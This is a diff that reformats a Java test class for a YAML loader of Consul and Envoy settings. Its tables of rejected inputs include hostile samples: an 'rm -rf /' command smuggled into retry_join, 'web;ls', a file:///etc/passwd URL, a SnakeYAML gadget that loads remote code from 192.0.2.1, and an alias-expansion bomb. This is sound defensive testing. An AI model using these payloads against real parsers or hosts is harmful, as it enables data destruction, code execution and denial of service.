@@ -45,29 +45,32 @@ class SpecLoaderTest {
   }
 
   @ParameterizedTest(name = "{0}")
-  @CsvSource(delimiter = '|', textBlock = """
-      unknown top-level key       | consul: {role: server}\\nconsol: 1                          | consol
-      unknown nested key          | consul: {role: server, datacentre: dc1}                   | consul.datacentre
-      wrong role                  | consul: {role: leader}                                     | consul.role
-      bad bind address            | consul: {role: server, bind_addr: 300.1.1.1}              | consul.bind_addr
-      shell in join               | consul: {role: client, retry_join: ['10.0.0.1; rm -rf /']} | consul.retry_join[0]
-      client without join         | consul: {role: client}                                     | consul.retry_join
-      port out of range           | consul: {role: server}\\nenvoy: {admin_port: 70000}        | envoy.admin_port
-      port not a number           | consul: {role: server}\\nenvoy: {admin_port: lots}         | envoy.admin_port
-      bad version                 | consul: {role: server, version: latest}                   | consul.version
-      incompatible envoy          | consul: {role: server}\\nenvoy: {version: 1.30.1}          | envoy.version
-      bad service name            | consul: {role: server}\\nservice: {name: 'web;ls', port: 80} | service.name
-      app without digest          | consul: {role: server}\\napp: {name: web, url: 'https://x.example/web.zip'} | app.sha256
-      app url not http            | consul: {role: server}\\napp: {name: web, url: 'file:///etc/passwd', sha256: 0000000000000000000000000000000000000000000000000000000000000000} | app.url
-      bad dns mode                | consul: {role: server}\\ndns: {mode: magic}               | dns.mode
-      bool as string              | consul: {role: server, ui: 'yes please'}                  | consul.ui
-      java tag                    | consul: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://192.0.2.1/']]]] | Global tag is not allowed
-      custom tag                  | consul: {role: !Ref server}                                | consul.role
-      not a mapping               | - consul                                                   | config
-      encrypt not base64          | consul: {role: server, encrypt: 'not a key!'}             | consul.encrypt
-      reserved extra key          | consul: {role: server, extra_config: {encrypt: abc}}      | consul.extra_config.encrypt
-      annotation bool             | consul: {role: server}\\nservice: {annotations: {consul.hashicorp.com/connect-service: web, consul.hashicorp.com/connect-service-port: '80', consul.hashicorp.com/transparent-proxy: 'maybe'}} | consul.hashicorp.com/transparent-proxy
-      """)
+  @CsvSource(
+      delimiter = '|',
+      textBlock =
+          """
+          unknown top-level key       | consul: {role: server}\\nconsol: 1                          | consol
+          unknown nested key          | consul: {role: server, datacentre: dc1}                   | consul.datacentre
+          wrong role                  | consul: {role: leader}                                     | consul.role
+          bad bind address            | consul: {role: server, bind_addr: 300.1.1.1}              | consul.bind_addr
+          shell in join               | consul: {role: client, retry_join: ['10.0.0.1; rm -rf /']} | consul.retry_join[0]
+          client without join         | consul: {role: client}                                     | consul.retry_join
+          port out of range           | consul: {role: server}\\nenvoy: {admin_port: 70000}        | envoy.admin_port
+          port not a number           | consul: {role: server}\\nenvoy: {admin_port: lots}         | envoy.admin_port
+          bad version                 | consul: {role: server, version: latest}                   | consul.version
+          incompatible envoy          | consul: {role: server}\\nenvoy: {version: 1.30.1}          | envoy.version
+          bad service name            | consul: {role: server}\\nservice: {name: 'web;ls', port: 80} | service.name
+          app without digest          | consul: {role: server}\\napp: {name: web, url: 'https://x.example/web.zip'} | app.sha256
+          app url not http            | consul: {role: server}\\napp: {name: web, url: 'file:///etc/passwd', sha256: 0000000000000000000000000000000000000000000000000000000000000000} | app.url
+          bad dns mode                | consul: {role: server}\\ndns: {mode: magic}               | dns.mode
+          bool as string              | consul: {role: server, ui: 'yes please'}                  | consul.ui
+          java tag                    | consul: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://192.0.2.1/']]]] | Global tag is not allowed
+          custom tag                  | consul: {role: !Ref server}                                | consul.role
+          not a mapping               | - consul                                                   | config
+          encrypt not base64          | consul: {role: server, encrypt: 'not a key!'}             | consul.encrypt
+          reserved extra key          | consul: {role: server, extra_config: {encrypt: abc}}      | consul.extra_config.encrypt
+          annotation bool             | consul: {role: server}\\nservice: {annotations: {consul.hashicorp.com/connect-service: web, consul.hashicorp.com/connect-service-port: '80', consul.hashicorp.com/transparent-proxy: 'maybe'}} | consul.hashicorp.com/transparent-proxy
+          """)
   void parse_brokenInput_namesTheField(String name, String yaml, String field) {
     assertThatThrownBy(() -> parse(yaml.replace("\\n", "\n")))
         .isInstanceOf(SpecException.class)
@@ -84,10 +87,16 @@ class SpecLoaderTest {
   @Test
   void parse_emptyGarbageAndHugeInput_areRejected() {
     assertThatThrownBy(() -> parse("")).hasMessageContaining("empty");
-    assertThatThrownBy(() -> new SpecLoader().parse(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1, 2})).hasMessageContaining("UTF-8");
+    assertThatThrownBy(() -> new SpecLoader().parse(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1, 2}))
+        .hasMessageContaining("UTF-8");
     assertThatThrownBy(() -> parse("consul: [unclosed")).hasMessageContaining("YAML syntax error");
-    assertThatThrownBy(() -> new SpecLoader().parse(new byte[SpecLoader.MAX_BYTES + 1])).hasMessageContaining("larger than 1 MiB");
-    String bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
+    assertThatThrownBy(() -> new SpecLoader().parse(new byte[SpecLoader.MAX_BYTES + 1]))
+        .hasMessageContaining("larger than 1 MiB");
+    String bomb =
+        "a: &a [x,x,x,x,x,x,x,x,x]\n"
+            + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
+            + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
+            + "d: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
     assertThatThrownBy(() -> parse(bomb)).isInstanceOf(SpecException.class);
   }
 }
